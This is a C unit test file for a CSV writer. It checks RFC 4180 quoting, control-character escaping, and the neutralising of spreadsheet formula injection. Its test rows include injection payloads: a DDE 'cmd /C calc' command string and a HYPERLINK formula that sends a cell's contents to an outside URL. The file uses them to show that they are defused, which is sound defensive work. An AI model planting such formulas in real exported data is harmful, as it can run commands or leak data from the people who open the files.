/*
 * test_csv.c -- RFC 4180 records byte for byte: plain fields, fields that
 * need quoting (comma, quote, CR, LF), empty and NULL fields, CRLF ends;
 * text fields a spreadsheet would run as a formula neutralised (OWASP: a
 * single quote before = + - @ tab CR), control characters escaped but the
 * line break, numbers left as numbers.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "csv.h"

static const struct row {
	const char *fields[4];
	int n;
	const char *want;
} rows[] = {
	{ { "target", "address", "port" }, 3, "target,address,port\r\n" },
	{ { "a,b" }, 1, "\"a,b\"\r\n" },
	{ { "say \"hi\"" }, 1, "\"say \"\"hi\"\"\"\r\n" },
	{ { "two\nlines", "x" }, 2, "\"two\nlines\",x\r\n" },
	{ { "cr\r" }, 1, "cr\\x0d\r\n" },		/* a CR is escaped (below) */
	{ { "", NULL, "z" }, 3, ",,z\r\n" },
	{ { "\"" }, 1, "\"\"\"\"\r\n" },
	{ { "fd00:5ca1:100::11", "rewritten" }, 2, "fd00:5ca1:100::11,rewritten\r\n" },
	/* formulas, as an edited store or a name may hold them */
	{ { "=HYPERLINK(\"http://x/?\"&A1,\"open\")" }, 1,
	  "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\"\r\n" },
	{ { "=1+1", "+1+1", "-1+1", "@SUM(A1)" }, 4, "'=1+1,'+1+1,'-1+1,'@SUM(A1)\r\n" },
	{ { "=cmd|' /C calc'!A0" }, 1, "'=cmd|' /C calc'!A0\r\n" },
	/* tab and CR lead no more once escaped: the cell starts with '\' */
	{ { "\t=1+1", "\r=1+1" }, 2, "\\t=1+1,\\x0d=1+1\r\n" },
	/* controls escaped but the line break, backslashes kept, C1 and
	 * invalid UTF-8 escaped, the rest of UTF-8 kept */
	{ { "a\x1b[2J\x07", "x\xc2\x9b" "1\xff", "caf\xc3\xa9 \\x" }, 3,
	  "a\\x1b[2J\\x07,x\\u009b1\\xff,caf\xc3\xa9 \\x\r\n" },
	{ { "=a\x1b" }, 1, "'=a\\x1b\r\n" },
	{ { "-", "=" }, 2, "'-,'=\r\n" },
	/* inside a cell they are harmless, and stay as they are */
	{ { "a=1", "syn-dropped", "lab @ west", "1+1" }, 4, "a=1,syn-dropped,lab @ west,1+1\r\n" },
	{ { " =1+1", "'=1" }, 2, " =1+1,'=1\r\n" },
};

/* Numbers stay numbers: csv_number writes a negative one as it is. */
static void
test_numbers(void **state)
{
	struct csv c = { 0 };

	(void)state;
	csv_number(&c, "-3");
	csv_number(&c, "42");
	csv_field(&c, "-3");
	csv_number(&c, NULL);
	csv_end_row(&c);
	assert_false(c.failed);
	assert_int_equal(c.len, strlen("-3,42,'-3,\r\n"));
	assert_memory_equal(c.p, "-3,42,'-3,\r\n", c.len);
	csv_free(&c);
}

static void
test_rows(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct csv c = { 0 };

		for (int f = 0; f < rows[i].n; f++)
			csv_field(&c, rows[i].fields[f]);
		csv_end_row(&c);
		assert_false(c.failed);
		assert_int_equal(c.len, strlen(rows[i].want));
		assert_memory_equal(c.p, rows[i].want, c.len);
		csv_free(&c);
	}
}

/* Many rows: the buffer grows, nothing is lost between them. */
static void
test_many_rows(void **state)
{
	struct csv c = { 0 };

	(void)state;
	for (int i = 0; i < 10000; i++) {
		csv_field(&c, "a,b");
		csv_field(&c, "c");
		csv_end_row(&c);
	}
	assert_false(c.failed);
	assert_int_equal(c.len, 10000 * strlen("\"a,b\",c\r\n"));
	assert_memory_equal(c.p + c.len - 9, "\"a,b\",c\r\n", 9);
	csv_free(&c);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows),
		cmocka_unit_test(test_many_rows),
		cmocka_unit_test(test_numbers),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
